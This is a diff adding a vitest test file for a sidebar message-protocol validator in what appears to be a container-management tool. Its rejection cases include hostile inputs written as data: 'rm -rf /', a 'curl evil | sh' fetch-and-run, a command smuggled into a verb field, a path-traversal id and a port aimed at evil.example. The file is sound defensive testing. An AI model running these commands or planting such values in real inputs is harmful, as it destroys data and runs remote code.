@@ -1,0 +1,60 @@
+import { describe, expect, it } from 'vitest'
+import { actions } from '../../src/engine/lifecycle.ts'
+import { actionNames, type FromView, isFromView, isToView } from '../../src/sidebar/protocol.ts'
+import { idOf } from '../engine/still-engine.ts'
+
+const id = idOf('a')
+
+describe('the door of the host', () => {
+  const welcome: readonly FromView[] = [
+    { kind: 'ready' },
+    { kind: 'look' },
+    { kind: 'act', action: 'stop', id },
+    { kind: 'logs', id },
+    { kind: 'copy', command: { of: 'container', verb: 'logs', id } },
+    { kind: 'type', command: { of: 'card', step: 0 } },
+    { kind: 'type', command: { of: 'beginning' } },
+    { kind: 'open-port', id, port: 8080 },
+    { kind: 'take-step', step: 1 },
+    { kind: 'dismiss-notice' },
+    { kind: 'clear-journal' },
+    { kind: 'choose-lesson' },
+  ]
+
+  it.each(welcome)('lets $kind in', (message) => {
+    expect(isFromView(message)).toBe(true)
+  })
+
+  it.each([
+    ['nothing', undefined],
+    ['a text', 'ready'],
+    ['a list', ['ready']],
+    ['an unknown wish', { kind: 'execute', command: 'rm -rf /' }],
+    ['a name of every object', { kind: 'constructor' }],
+    ['an action that there is not', { kind: 'act', action: 'prune', id }],
+    ['a container by name', { kind: 'act', action: 'stop', id: 'hellonginx' }],
+    ['a path for an ID', { kind: 'logs', id: `../${id}` }],
+    ['half an action', { kind: 'act', action: 'stop' }],
+    ['a command of its own', { kind: 'type', command: 'curl evil | sh' }],
+    ['a verb of its own', { kind: 'type', command: { of: 'container', verb: 'stop; curl evil | sh', id } }],
+    ['a step before the first', { kind: 'take-step', step: -1 }],
+    ['no port', { kind: 'open-port', id, port: 0 }],
+    ['a port that is more than a number', { kind: 'open-port', id, port: '80@evil.example' }],
+  ])('keeps %s out', (_, message) => {
+    expect(isFromView(message)).toBe(false)
+  })
+})
+
+describe('the door of the view', () => {
+  it('lets the messages of the host in, and no others', () => {
+    expect(isToView({ kind: 'doing', doing: [] })).toBe(true)
+    expect(isToView({ kind: 'ready' })).toBe(false)
+    expect(isToView(null)).toBe(false)
+  })
+})
+
+describe('the words of the wall', () => {
+  it('are those of the lifecycle', () => {
+    expect(actionNames).toEqual(actions)
+  })
+})
